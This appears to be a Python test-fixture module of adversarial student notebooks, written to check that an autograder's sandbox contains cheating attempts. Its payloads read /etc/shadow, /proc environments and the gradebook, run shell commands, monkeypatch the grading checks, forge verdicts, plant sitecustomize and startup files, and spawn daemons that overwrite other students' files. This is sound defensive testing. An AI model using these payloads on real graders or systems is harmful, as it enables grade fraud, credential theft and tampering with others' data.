"""Attacks written against this grader by someone who has read its code: the six classes of issue #10.

Every case is built from the released notebook, like :mod:`tests.hostile_corpus`'s corpus,
but none relies on the static integrity scan being fooled or not: ``tests/test_grading_sandbox.py``
grades them with the scan turned off, so what stops them is the structure (the sandbox and the
verdicts decided outside the kernel). Each ``cheat`` case solves only the first part honestly and
answers the others wrongly, so an attack that worked would be worth the whole assignment.

Every case writes :data:`MARKER` wherever it can and prints what it finds, so the test can check
that nothing it found (solutions, hidden checks, the gradebook) reached its outputs or feedback and
that no process it started is still running.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass

from partnership_grading import authoring as au
from tests import hostile_corpus as hostile
from tests.hostile_corpus import Corpus, _append, _bytes, _prepend

from . import synthetic_students as synthetic

MARKER = "pr-adaptive-marker"

# Where a grader's files could be, from the kernel's point of view: the course layout nbgrader
# uses (relative to the autograded folder) and absolute places an attacker would look.
LOOK = f"""
import glob as _g, os as _o
_found = {{}}
for _pattern in ['../../../source/*/*.ipynb', '../../../gradebook.db', '../../../nbgrader_config.py',
                 '../../*/ps1-ip/*.ipynb', '/work/**/gradebook.db', '/work/**/source/ps1-ip/*.ipynb',
                 '/root/**/gradebook.db', '/home/**/*.ipynb', '/srv/**/*', '/tmp/**/*.ipynb', '/etc/shadow']:
    for _path in _g.glob(_pattern, recursive=True)[:20]:
        try:
            _found[_path] = open(_path, errors='replace').read()[:4000]
        except Exception as _e:
            _found[_path] = repr(_e)
print('{MARKER} found', sorted(_found))
print(''.join(_found.values())[:20000])
"""


def _cheat(c: Corpus) -> dict[str, bytes]:
    return {c.spec.notebook: _bytes(c.cheat())}


def _with(code: str, where: int = 0, solved: bool = False) -> Callable[[Corpus], dict[str, bytes]]:
    """The cheat (or solved) notebook with ``code`` appended to part ``where``'s answer."""

    def build(c: Corpus) -> dict[str, bytes]:
        nb = c.solved() if solved else c.cheat()
        return {c.spec.notebook: _bytes(_append(nb, c.part(where).grade_id, code))}

    return build


def _first(code: str, where: int = 0) -> Callable[[Corpus], dict[str, bytes]]:
    def build(c: Corpus) -> dict[str, bytes]:
        return {c.spec.notebook: _bytes(_prepend(c.cheat(), c.part(where).grade_id, code))}

    return build


# 1. The interpreter, files and the shell through allowed modules and aliases
ALIAS_OPEN = LOOK.replace("open(_path", "getattr(__import__('bu' + 'iltins'), 'op' + 'en')(_path")
NUMPY_FILES = f"""
import numpy as _np
for _path in ['../../../gradebook.db', '/etc/shadow', '/proc/1/environ']:
    try:
        print('{MARKER}', _path, bytes(_np.fromfile(_path, dtype=_np.uint8)[:2000]))
    except Exception as _e:
        print('{MARKER}', _path, repr(_e))
"""
SHELL = f"""
_ip = __import__('IPython').get_ipython()
_ip.system('id; ls -la ../../.. /work /root 2>&1 | head -50; echo {MARKER}')
__import__('importlib').import_module('o' + 's').system('cat ../../../gradebook.db /etc/shadow 2>&1 | head -5')
_ip.run_cell('!ls / ; echo {MARKER}-run-cell')
"""

# 2. The test helpers and the reference models, replaced inside the kernel
PATCH_HELPERS = """
import importlib as _il
_m = _il.import_module('partnership_grading.' + 'checks')
for _name in ('close', 'close_all', 'equal', 'function', 'raises'):
    setattr(_m, _name, lambda *a, **k: None)
__import__('math').isclose = lambda *a, **k: True
"""
PATCH_REFERENCES = """
import sys as _s
_pr = _s.modules['partnership.property_rights']
_b = _s.modules['partnership.bargaining']
_b.nash_split = lambda *a, **k: type('O', (), {'payoff_a': 60.0, 'payoff_b': 40.0})()
_b.rubinstein_shares = lambda *a, **k: (0.5, 0.5)
_pr.best_ownership = lambda *a, **k: 'A owns'
_pr.compare_ownership = lambda *a, **k: {'A owns': type('O', (), {'total_surplus': 11.83})()}
"""
FAKE_VERDICT = """
from IPython.display import display as _d
print("Graded by the course's checks, outside your notebook: passed.")
_d({'text/plain': '3.0'}, raw=True)
"""

# 3. What the tests leave behind: the namespace and IPython's history
HISTORY = f"""
_ip = __import__('IPython').get_ipython()
_seen = [str(x) for x in _ip.user_ns.get('In', [])] + [str(x) for x in _ip.user_ns.get('_ih', [])]
try:
    _seen += [str(x) for x in _ip.history_manager.get_range(output=True)]
except Exception as _e:
    _seen.append(repr(_e))
_seen += [k + '=' + repr(v)[:200] for k, v in list(_ip.user_ns.items()) if k.startswith('_') and not k.startswith('__')]
print('{MARKER} history', [s for s in _seen if 'HIDDEN' in s or 'reference' in s or '_want' in s][:50])
"""
SPY_PROBE = f"""
import json as _json
_ip = __import__('IPython').get_ipython()
_real = _ip.user_expressions
_log = []
def _forged(expressions):
    _log.append(str(expressions)[:300])
    open('/tmp/{MARKER}-probe.log', 'a').write(str(expressions)[:2000] + '\\n')
    lie = {{'kind': 'value', 'value': 60.0}}
    return {{k: {{'status': 'ok', 'data': {{'text/plain': repr(_json.dumps(
        {{n: {{'kind': 'value', 'value': 60.0}} for n in ['openai_payoff', 'openai_deal', 'value_of_threat_point', 'openai_moves',
          'msft_moves', 'total_moves', 'openai_gain', 'case_change', 'openai_share', 'patience_moves', 'advantage_moves',
          'share_first', 'share_second', 'surplus_by_structure', 'best_structure', 'case_surplus', 'case_best',
          'licence_lambda', 'licence_fee']}} if 'get' in v else lie))}}, 'metadata': {{}}}} for k, v in expressions.items()}}
_ip.user_expressions = _forged
"""

# 4. Files handed in beside the notebook, which would run before any cell if they were on sys.path
EVIL_MODULE = f"""
import sys
print('{MARKER}-PWNED-' + __name__)
open('/tmp/{MARKER}-pwned', 'a').write(__name__)
"""
EVIL_FILES = {
    "partnership/__init__.py": EVIL_MODULE,
    "partnership/bargaining.py": EVIL_MODULE + "\ndef nash_split(*a, **k):\n    raise SystemExit\n",
    "partnership_grading/__init__.py": EVIL_MODULE,
    "partnership/checks.py": EVIL_MODULE + "\nclose = close_all = equal = function = raises = lambda *a, **k: None\n",
    "sitecustomize.py": EVIL_MODULE,
    "usercustomize.py": EVIL_MODULE,
    "numpy.py": EVIL_MODULE,
    "math.py": EVIL_MODULE,
    "ipython_kernel_config.py": EVIL_MODULE,
    ".ipython/profile_default/startup/00-evil.py": EVIL_MODULE,
    "helpers.py": EVIL_MODULE + "\ndef answer():\n    return 60.0\n",
}


def _beside(c: Corpus) -> dict[str, bytes]:
    files = {path: text.encode() for path, text in EVIL_FILES.items()}
    nb = _append(c.cheat(), c.part(1).grade_id, "import helpers  # handed in beside the notebook")
    files[c.spec.notebook] = _bytes(nb)
    return files


# 5. Processes that outlive the kernel
DAEMONS = f"""
import os as _o, subprocess as _sp, sys as _s
_sp.Popen([_s.executable, '-c', 'import time; time.sleep(300)  # {MARKER}'], start_new_session=True)
_later = "import time; time.sleep(2)\\nfor p in ['../../../gradebook.db', '../../zz-control/ps1-ip/ps1-ip.ipynb']:\\n    try:\\n        open(p, 'w').write('{MARKER}')\\n    except Exception:\\n        pass\\ntime.sleep(300)  # {MARKER}-daemon"
if _o.fork() == 0:
    _o.setsid()
    if _o.fork() == 0:
        _o.execv(_s.executable, [_s.executable, '-c', _later])
    _o._exit(0)
"""

# 6. The gradebook, source/ and other students through the file system and /proc
PROC = f"""
import os as _o
_out = []
for _pid in [p for p in _o.listdir('/proc') if p.isdigit()]:
    for _what in ('cmdline', 'environ', 'cwd', 'root'):
        try:
            _path = f'/proc/{{_pid}}/{{_what}}'
            _out.append((_path, _o.readlink(_path) if _what in ('cwd', 'root') else open(_path, 'rb').read()[:500]))
        except Exception as _e:
            _out.append((_path, repr(_e)))
_out.append(('mountinfo', open('/proc/self/mountinfo').read()[:3000]))
print('{MARKER} proc', len([p for p in _o.listdir('/proc') if p.isdigit()]), _out[:40])
for _path in ['../../zz-control/ps1-ip/ps1-ip.ipynb', '../../../gradebook.db', '/proc/1/cwd/gradebook.db']:
    try:
        open(_path, 'w').write('{MARKER}')
        print('{MARKER} wrote', _path)
    except Exception as _e:
        print('{MARKER} could not write', _path, repr(_e))
"""
NETWORK = f"""
import socket as _so
for _host, _port in [('127.0.0.1', 5432), ('127.0.0.1', 8888), ('10.0.0.1', 80)]:
    try:
        _so.create_connection((_host, _port), timeout=2).close()
        print('{MARKER} connected', _host, _port)
    except Exception as _e:
        print('{MARKER} no connection', _host, _port, type(_e).__name__)
"""

# Attacks on the outside verdicts by someone who knows how they are asked for
DIE_WHEN_PROBED = """
_real_value = value_of_threat_point
def value_of_threat_point(*args):
    import sys
    if '_req' in sys._getframe(1).f_globals or '_answer' in sys._getframe(1).f_globals:
        import os
        os._exit(0)
    return _real_value(*args)
"""
LOOP_WHEN_PROBED = """
_real_share = openai_share
def openai_share(*args):
    import sys
    if '_answer' in sys._getframe(1).f_code.co_name or '_req' in sys._getframe(1).f_globals:
        while True:
            pass
    return _real_share(*args)
"""


# Per-student numbers: the notebook's own table and id, before the setup cell runs (the student-id cell)
FORGED_NUMBERS = """
import json as _json, os as _os
_os.environ['PARTNERSHIP_STUDENT_ID'] = 'mallory'
open('variants.json', 'w').write(_json.dumps({'mallory': PUBLISHED}))
print('MARKER forged', open('variants.json').read())
STUDENT_ID = 'mallory'
"""


def _forged_numbers(c: Corpus) -> dict[str, bytes]:
    """The published numbers forced on the kernel, and every answer typed in for them: if the grader
    believed the kernel's numbers this would be worth the whole assignment."""
    nb = synthetic.student_submission(c.released, c.spec, synthetic.answer_bodies(c.spec, "typed", numbers=None))
    cell = next(x for x in nb.cells if x.get("id") == au.STUDENT_ID_CELL)
    cell.source = FORGED_NUMBERS.replace("PUBLISHED", repr(c.spec.published_numbers())).replace("MARKER", MARKER).strip()
    files = {c.spec.notebook: _bytes(nb)}
    files["variants.json"] = json.dumps({"mallory": c.spec.published_numbers()}).encode()  # handed in beside it, too
    return files


@dataclass(frozen=True)
class Attack:
    """One adaptive case: what it tries, the files it hands in, and the points it must get."""

    student: str
    category: str
    attack: str
    build: Callable[[Corpus], dict[str, bytes]]
    points: Callable[[au.Assignment], dict[str, float]]


ATTACKS: tuple[Attack, ...] = (
    Attack("c1-alias-open", "interpreter", "reads the course's files through an alias of `open`", _with(ALIAS_OPEN), hostile.only(0)),
    Attack("c1-numpy-files", "interpreter", "reads the gradebook, /etc/shadow and /proc through numpy", _with(NUMPY_FILES), hostile.only(0)),
    Attack("c1-shell", "interpreter", "runs shell commands through IPython and an aliased `os`", _with(SHELL), hostile.only(0)),
    Attack("c2-patch-helpers", "shared interpreter", "replaces the test helpers and math.isclose", _first(PATCH_HELPERS, 1), hostile.only(0)),
    Attack("c2-patch-references", "shared interpreter", "replaces the reference models the tests use", _first(PATCH_REFERENCES, 1), hostile.only(0)),
    Attack("c2-fake-verdict", "shared interpreter", "prints the grader's pass message and a partial-credit number", _with(FAKE_VERDICT, 1), hostile.only(0)),
    Attack("c3-history", "namespace", "reads IPython's history and the tests' leftovers", _with(HISTORY, 4), hostile.only(0)),
    Attack("c3-spy-probe", "namespace", "replaces the kernel's user_expressions to spy on and forge the grader's questions", _with(SPY_PROBE, 1), hostile.only(0)),
    Attack("c4-files-beside", "files beside", "hands in a `partnership/` package, sitecustomize, numpy.py, a startup file and a helper", _beside, hostile.only(0)),
    Attack("c5-daemons", "processes", "starts a detached process and a double-forked daemon that writes later", _with(DAEMONS, 0, solved=True), hostile.full),
    Attack("c6-proc", "file system", "explores /proc and writes to other students' files and the gradebook", _with(PROC, 0, solved=True), hostile.full),
    Attack("c6-network", "file system", "connects to the database and servers on the machine", _with(NETWORK, 0, solved=True), hostile.full),
    Attack("g-die-when-probed", "grader-aware", "a function that kills the kernel when the grader calls it", _with(DIE_WHEN_PROBED, 1, solved=True), hostile.before(1)),
    Attack("g-loop-when-probed", "grader-aware", "a function that hangs only when the grader calls it", _with(LOOP_WHEN_PROBED, 2, solved=True), hostile.all_but(2)),
    Attack("g-forged-numbers", "grader-aware", "forces the published numbers on its kernel (its own variants.json and id, "
           "written before the setup cell) and types in the published case's answers", _forged_numbers, hostile.zero),
    Attack("zz-control", "control", "the solutions", lambda c: {c.spec.notebook: _bytes(c.solved())}, hostile.full),
    Attack("zz-blank", "control", "the untouched release", lambda c: {c.spec.notebook: _bytes(c.released)}, hostile.zero),
)


def secrets(spec: au.Assignment, solved: set[str]) -> list[str]:
    """Text a case must not have in its outputs or feedback: hidden references, unsolved parts' solutions."""
    out = ["HIDDEN_CHECKS", "BEGIN HIDDEN", "BEGIN SOLUTION"]
    for p in spec.parts:
        out += sorted(au.hidden_references(p))
        if p.grade_id not in solved:
            body = au.solution_region(au._clean(p.solution))[1]
            out += [line.strip() for line in body.splitlines() if len(line.strip()) >= 24]
    return out
